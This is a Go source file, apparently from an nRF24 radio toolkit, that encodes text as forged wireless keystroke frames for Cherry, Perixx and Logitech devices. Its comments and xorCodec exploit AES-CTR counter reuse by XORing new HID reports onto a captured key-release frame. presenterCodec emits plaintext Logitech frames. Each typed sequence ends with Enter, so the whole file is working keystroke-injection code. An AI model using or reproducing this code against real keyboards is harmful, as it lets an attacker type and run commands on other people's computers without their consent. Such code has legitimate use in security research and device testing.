// Package keyboard turns text into radio frames for the supported device
// families.
//
// The Cherry and Perixx keyboards reuse the counter of their AES-CTR stream,
// so a captured key-release frame is the encryption of a known all-zero
// report. XORing a new plaintext report onto it yields a valid encrypted
// frame. The captured frame is handled as opaque key material of a fixed
// family length; no AES is involved.
package keyboard

import (
	"fmt"

	"github.com/Einstein2150/nrf24-playset/helper"
	"github.com/Einstein2150/nrf24-playset/hid"
)

// Codec encodes keystrokes for one device family. Implementations are pure
// and never touch the radio.
type Codec interface {
	// MaterialLen is the exact key material length the codec requires.
	MaterialLen() int
	// EncodeKey encodes a single report with the given modifier and key.
	EncodeKey(material []byte, mod hid.HIDMod, key hid.HIDKey) ([]byte, error)
	// Encode types text: a neutral frame, then every key press followed by
	// a neutral frame, then the confirm key.
	Encode(material []byte, text string) ([][]byte, error)
}

func checkMaterial(material []byte, want int) error {
	if len(material) != want {
		return fmt.Errorf("%w: key material of %d bytes, device needs %d", helper.ErrProtocolFormat, len(material), want)
	}
	return nil
}

type frameFunc func(material []byte, mod hid.HIDMod, key hid.HIDKey) []byte

func encodeText(layout *hid.Layout, material []byte, text string, frame frameFunc) ([][]byte, error) {
	events, err := layout.Events(text)
	if err != nil {
		return nil, err
	}

	noop := frame(material, hid.HID_MOD_KEY_NONE, hid.HID_KEY_NONE)
	res := make([][]byte, 0, 2*len(events)+2)
	res = append(res, noop)
	for _, ev := range events {
		res = append(res, frame(material, ev.Mod, ev.Key))
		res = append(res, append([]byte{}, noop...))
	}
	res = append(res, frame(material, hid.HID_MOD_KEY_NONE, hid.HID_KEY_ENTER))
	return res, nil
}

// xorCodec XORs a zero-padded plaintext report of reportLen bytes onto the
// start of the material. Bytes past the report are sent as captured.
type xorCodec struct {
	layout      *hid.Layout
	reportLen   int
	materialLen int
}

func (c *xorCodec) MaterialLen() int { return c.materialLen }

func (c *xorCodec) frame(material []byte, mod hid.HIDMod, key hid.HIDKey) []byte {
	res := append([]byte{}, material...)
	report := make([]byte, c.reportLen)
	report[0] = byte(mod)
	report[2] = byte(key)
	for i := range report {
		res[i] ^= report[i]
	}
	return res
}

func (c *xorCodec) EncodeKey(material []byte, mod hid.HIDMod, key hid.HIDKey) ([]byte, error) {
	if err := checkMaterial(material, c.materialLen); err != nil {
		return nil, err
	}
	return c.frame(material, mod, key), nil
}

func (c *xorCodec) Encode(material []byte, text string) ([][]byte, error) {
	if err := checkMaterial(material, c.materialLen); err != nil {
		return nil, err
	}
	return encodeText(c.layout, material, text, c.frame)
}

// Cherry: 11 byte report block followed by the reused counter tail.
func newCherryCodec(layout *hid.Layout) Codec {
	return &xorCodec{layout: layout, reportLen: 11, materialLen: 16}
}

// Perixx: 8 byte boot protocol report.
func newPerixxCodec(layout *hid.Layout) Codec {
	return &xorCodec{layout: layout, reportLen: 8, materialLen: 16}
}

// presenterCodec emits plaintext Logitech keyboard frames and needs no
// material.
type presenterCodec struct {
	layout *hid.Layout
}

func (c *presenterCodec) MaterialLen() int { return 0 }

func (c *presenterCodec) frame(_ []byte, mod hid.HIDMod, key hid.HIDKey) []byte {
	res := []byte{0x00, 0xc1, byte(mod), byte(key), 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}
	FixLogitechChecksum(res)
	return res
}

func (c *presenterCodec) EncodeKey(material []byte, mod hid.HIDMod, key hid.HIDKey) ([]byte, error) {
	if err := checkMaterial(material, 0); err != nil {
		return nil, err
	}
	return c.frame(nil, mod, key), nil
}

func (c *presenterCodec) Encode(material []byte, text string) ([][]byte, error) {
	if err := checkMaterial(material, 0); err != nil {
		return nil, err
	}
	return encodeText(c.layout, nil, text, c.frame)
}
